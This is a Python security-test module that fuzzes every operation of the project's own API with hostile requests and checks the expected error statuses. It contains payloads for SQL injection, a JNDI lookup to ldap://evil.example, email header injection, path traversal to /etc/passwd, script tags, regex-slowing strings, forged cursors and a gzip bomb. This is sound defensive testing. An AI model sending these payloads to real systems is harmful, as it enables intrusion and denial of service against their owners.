"""What scanners and attackers send: each attack as the requests that it makes of any operation.

An attack is a function from an operation to its requests. It joins `ATTACKS` by its decorator, and every
operation joins by being in the API: nobody has to remember either.
"""

import gzip
import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from functools import cache
from typing import Any

from shared.http import cursors
from shared.ids import uuid7
from tests.fixtures.run import SECRET_KEY
from tests.security.known import Known

CANARY = "hunter2c4n4ry"
"""In every text that is sent: it must not come back in a refusal."""

MEGABYTE = 1_048_576

TEXTS = (
    f"'; DROP TABLE audit; -- {CANARY}",
    f"{CANARY}' OR '1'='1",
    f"{CANARY}%_\\",
    f"{CANARY}\r\nBcc: eve@evil.example\r\n\r\n",
    f"{{{{7*7}}}}${{jndi:ldap://evil.example/{CANARY}}}%s%n",
    f"../../etc/passwd?{CANARY}",
    f"<script>{CANARY}</script>\u202e\u200b\ufeff",
)

SLOW_FOR_PATTERNS = ("a" * 19_990 + "!", "((a+)+)+$" + "a" * 60 + "!", "0" * 5_000 + "e", " " * 19_999, "@" * 5_000)
"""What makes a badly written regular expression run for minutes."""

INTEGERS = ("0", "-1", "2147483648", "-2147483649", "9223372036854775808", "9" * 5_000, "1e3", "1.0", "0x10", "٣")

TIMES = (
    "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-14:00",
    "2026-11-23T23:59:60Z",
    "2026-02-30T00:00:00Z",
    "2026-11-23T10:15:00+99:99",
    "2026-11-23T10:15:00",
    "1795402776",
    "-1",
    "now",
    "P1D",
)


@dataclass(frozen=True)
class Operation:
    """One operation of an API, and what a right request to it is made of."""

    method: str
    path: str
    described: dict[str, Any]
    example: dict[str, Any] | None
    known: Known
    rows: str | None = None
    """What it takes instead of JSON: rows of CSV."""
    calendar: str | None = None
    """What it takes instead of JSON: an iCalendar file."""
    takes_file: bool = False
    """It takes any bytes as they are."""

    def parameters(self, place: str) -> Iterator[dict[str, Any]]:
        """Its parameters in `query`, `path` or `header`."""
        return (parameter for parameter in self.described.get("parameters", ()) if parameter.get("in") == place)

    def url(self, **others: str) -> str:
        """Its path with things that are there, or others."""
        url = self.path
        for parameter in self.parameters("path"):
            name = parameter["name"]
            url = url.replace(f"{{{name}}}", others.get(name) or self.known[name][0])
        return url

    @property
    def json(self) -> bytes:
        """A right body, as far as the documentation knows one."""
        text = self.rows or self.calendar
        if text is not None:
            return text.encode()
        return json.dumps(self.example).encode() if self.example is not None else b""


@dataclass(frozen=True)
class Sent:
    """One request, and the statuses that it may get. query: raw, as it stands after the question mark."""

    what: str
    url: str
    content: bytes = b""
    query: str | None = None
    headers: dict[str, str] = field(default_factory=dict)
    may_get: frozenset[int] = frozenset({404, 409, 412, 422})


Attack = Callable[[Operation], Iterator[Sent]]

ATTACKS: dict[str, Attack] = {}

ANY = frozenset({200, 201, 202, 204, 400, 404, 409, 412, 413, 415, 422})
"""A text like any other: it may be stored, if only it does no harm."""


def attack(made: Attack) -> Attack:
    """Let every operation be met by this one."""
    ATTACKS[made.__name__] = made
    return made


@attack
def forged_cursors(operation: Operation) -> Iterator[Sent]:
    """Cursors that this list did not give; a cut one, one of another list, one signed with another secret."""
    if not any(parameter["name"] == "cursor" for parameter in operation.parameters("query")):
        return
    place = (uuid7(),)
    other_list = cursors.seal(place, of="/v1/other", secret=SECRET_KEY)
    forged = {
        "of another list": other_list,
        "of another service": cursors.seal(
            place, of=operation.path, secret="another secret of forty characters, or so"
        ),
        "cut": other_list[:-7],
        "of nothing": "",
        "outside ASCII": "%C3%A9",
        "with NUL": "%00",
        "long": "A" * 3_000,
        "of SQL": "%27%3B--",
    }
    for what, cursor in forged.items():
        yield Sent(f"a cursor {what}", operation.url(), query=f"cursor={cursor}", may_get=frozenset({422}))


@attack
def bodies_of_any_size(operation: Operation) -> Iterator[Sent]:
    """Too large, too deep, and compressed so that the small one would be large."""
    if operation.example is None:
        return
    url, kind = operation.url(), {"content-type": "application/json"}
    bomb = _bomb()
    yield Sent("a mebibyte and one", url, b" " * (MEGABYTE + 1), headers=kind, may_get=frozenset({413}))
    yield Sent("100,000 arrays", url, b"[" * 100_000, headers=kind, may_get=frozenset({422}))
    yield Sent("half of 100,000 objects", url, b'{"a":' * 100_000, headers=kind, may_get=frozenset({422}))
    yield Sent("a gzip bomb", url, bomb, headers={**kind, "content-encoding": "gzip"}, may_get=frozenset({415}))
    yield Sent("a bomb unannounced", url, bomb, headers=kind, may_get=frozenset({400}))
    for coding in ("br", "zstd", "deflate, gzip"):
        headers = {**kind, "content-encoding": coding}
        yield Sent(f"JSON said to be {coding}", url, operation.json, headers=headers, may_get=frozenset({415}))


@attack
def uploads_of_any_kind(operation: Operation) -> Iterator[Sent]:
    """Rows that are none, in other encodings, compressed, and whose texts are hostile: refused, or a row's fault."""
    if operation.rows is None:
        return
    url, csv, lines = operation.url(), {"content-type": "text/csv"}, {"content-type": "application/x-ndjson"}
    header = operation.rows.splitlines()[0]
    refused = frozenset({422})
    yield Sent("nothing", url, headers=csv, may_get=refused)
    yield Sent("UTF-16", url, operation.rows.encode("utf-16"), headers=csv, may_get=refused)
    yield Sent("zeros", url, b"\0" * MEGABYTE, headers=lines, may_get=refused)
    yield Sent("a quote", url, b'"', headers=csv, may_get=refused)
    yield Sent("a thousand columns", url, b"a," * 1_000, headers=csv, may_get=refused)
    yield Sent("an unknown column", url, f"{CANARY}\n1\n".encode(), headers=csv, may_get=refused)
    for coding in ("gzip", "br"):
        headers = {**csv, "content-encoding": coding}
        yield Sent(f"rows said to be {coding}", url, _bomb(), headers=headers, may_get=frozenset({415}))
    for kind in ("application/json", "text/csv; charset=utf-16", "multipart/form-data; boundary=x"):
        yield Sent(f"rows as {kind}", url, operation.json, headers={"content-type": kind}, may_get=frozenset({415}))
    yield Sent("half a megabyte of arrays", url, b"[" * 500_000, headers=lines, may_get=ANY)
    for hostile in (*TEXTS, *SLOW_FOR_PATTERNS):
        row = json.dumps(dict.fromkeys(header.split(","), hostile))
        yield Sent(f"rows of {hostile[:40]!r}", url, row.encode(), headers=lines, may_get=ANY)


@attack
def bodies_where_none_is_read(operation: Operation) -> Iterator[Sent]:
    """A body for an action that takes none."""
    takes = (operation.example, operation.rows, operation.calendar)
    reads_none = not any(takes) and not operation.takes_file
    if reads_none and operation.method == "POST":
        url, may_get = operation.url(), ANY - {201}
        yield Sent("a body of no use", url, b"[" * 1000, may_get=may_get)
        large, coded = {"idempotency-key": "large"}, {"idempotency-key": "coded", "content-encoding": "gzip"}
        yield Sent("a large one with a key", url, b"x" * (MEGABYTE + 1), headers=large, may_get=frozenset({413}))
        yield Sent("a coded one with a key", url, b"x", headers=coded, may_get=frozenset({415}))


@attack
def texts_in_bodies(operation: Operation) -> Iterator[Sent]:
    """SQL, templates, paths, line breaks and what slows a pattern down, in every text of the example."""
    for place, text in _leaves(operation.example):
        if isinstance(text, str):
            for hostile in (*TEXTS, *SLOW_FOR_PATTERNS):
                content = json.dumps(_with(operation.example, place, hostile)).encode()
                headers = {"content-type": "application/json"}
                yield Sent(f"{place} = {hostile[:40]!r}", operation.url(), content, headers=headers, may_get=ANY)


@attack
def texts_in_queries(operation: Operation) -> Iterator[Sent]:
    """The same, integers and times at their extremes, and wrong spellings, in every query parameter."""
    for parameter in operation.parameters("query"):
        name = parameter["name"]
        raw = {repr(value[:40]): _quoted(value[:3_000]) for value in _worst_for(parameter["schema"])}
        raw |= {"NUL": "%00", "bad UTF-8": "%ff%fe", "a surrogate": "%ed%a0%80", "500 separators": "&" * 500}
        for what, value in raw.items():
            sent = Sent(f"{name} = {what}", operation.url(), operation.json, f"{name}={value}", _kind(operation), ANY)
            yield sent


def _worst_for(schema: dict[str, Any]) -> tuple[str, ...]:
    """The values that a parameter of this kind is most likely to trip over."""
    kinds = [schema, *schema.get("anyOf", ())]
    if any(kind.get("type") == "integer" for kind in kinds):
        return (*INTEGERS, TEXTS[0])
    if any(kind.get("format") == "date-time" for kind in kinds):
        return (*TIMES, TEXTS[0])
    if any("enum" in kind or "format" in kind or kind.get("type") == "boolean" for kind in kinds):
        return (TEXTS[0], TEXTS[3], INTEGERS[5])
    return (*TEXTS, *SLOW_FOR_PATTERNS)


@attack
def ids_of_other_kinds(operation: Operation) -> Iterator[Sent]:
    """A ticket's id where an account's is asked, ids of nothing, and what is no id."""
    for parameter in operation.parameters("path"):
        name = parameter["name"]
        others = {other: ids[-1] for other, ids in operation.known.items() if not set(ids) & set(operation.known[name])}
        others |= {"nobody": str(uuid7()), "zero": "0" * 8 + "-0000-0000-0000-" + "0" * 12, "upper": "A" * 36}
        others |= {"integer": "7", "SQL": "%27%20OR%201=1--", "NUL": "%00", "bad UTF-8": "%ff", "long": "a" * 4_000}
        for kind, value in others.items():
            sent = Sent(f"{name} of {kind}", operation.url(**{name: value}), operation.json, headers=_kind(operation))
            yield sent


@attack
def versions_at_the_edge(operation: Operation) -> Iterator[Sent]:
    """If-Match and If-None-Match that no version has."""
    for tag in ('"0"', '"99999999999999999999"', "W/", '"', "*, *", '"1", "2"', "'; DROP TABLE audit; --", "a" * 5_000):
        if any(parameter.get("name") == "If-Match" for parameter in operation.described.get("parameters", ())):
            headers = {**_kind(operation), "if-match": tag}
            yield Sent(f"If-Match {tag[:20]}", operation.url(), operation.json, headers=headers)
        if operation.method == "GET":
            headers = {"if-none-match": tag}
            yield Sent(f"If-None-Match {tag[:20]}", operation.url(), headers=headers, may_get=ANY | {304})


@cache
def _bomb() -> bytes:
    return gzip.compress(b" " * 50_000_000)


def _kind(operation: Operation) -> dict[str, str]:
    if operation.rows is not None:
        return {"content-type": "text/csv"}
    if operation.calendar is not None:
        return {"content-type": "text/calendar"}
    return {"content-type": "application/json"} if operation.example is not None else {}


def _quoted(text: str) -> str:
    return "".join(f"%{byte:02x}" for byte in text.encode())


def _leaves(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], Any]]:
    inner = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else None
    if inner is None:
        yield path, value
        return
    for step, part in inner:
        yield from _leaves(part, (*path, step))


def _with(value: Any, path: tuple[Any, ...], leaf: Any) -> Any:
    """The value with another leaf."""
    if not path:
        return leaf
    copy = dict(value) if isinstance(value, dict) else list(value)
    copy[path[0]] = _with(copy[path[0]], path[1:], leaf)
    return copy
